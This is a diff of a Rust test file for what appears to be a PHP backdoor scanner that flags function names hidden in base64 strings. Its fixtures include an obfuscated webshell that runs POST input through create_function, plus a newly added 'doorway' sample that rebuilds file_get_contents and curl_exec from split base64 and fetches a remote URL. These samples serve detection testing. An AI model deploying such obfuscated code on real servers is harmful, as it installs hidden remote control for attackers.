@@ -1829,6 +1829,10 @@ fn dangerous_names_kept_in_base64_literals_are_hidden() {
                public function p() { $f = $this->d(\"eStUbEtYd0VjeDBKMjBRPTo6Y3JlYXRlX2Z1bmN0aW9u\"); $g = $this->d(\"YVNOenRMdUd1b2NLQlljPTo6Z3ppbmZsYXRl\");\n\
                $this->r['x'] = $f('', $g($_POST['k'])); $this->x(); } } (new c())->p();";
     assert!(found(src).contains(&Why::HiddenFunctionName), "{:?}", found(src));
+    // fresh138's doorway: the names in pieces, kept in a global table and called from it.
+    let pieces = "<? $GLOBALS['_628_'] = Array(base64_decode('' . 'ZG' . 'VmaW5' . 'l'), base64_decode('ZmlsZV' . '9nZ' . 'XRfY29' . 'u' . 'dGV' . 'udHM' . '='),\n\
+                  base64_decode('Y3VybF9leGVj'));\n$p = $GLOBALS['_628_'][1]('http://example.net/t.txt'); echo $p;";
+    assert!(found(pieces).contains(&Why::HiddenFunctionName), "{:?}", found(pieces));
     // An application's base64 literals of data (an image, a key): no names in them.
     let data = "<?php $img = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='); $f = 'imagecreatefromstring'; $f($img);";
     assert!(!found(data).contains(&Why::HiddenFunctionName));
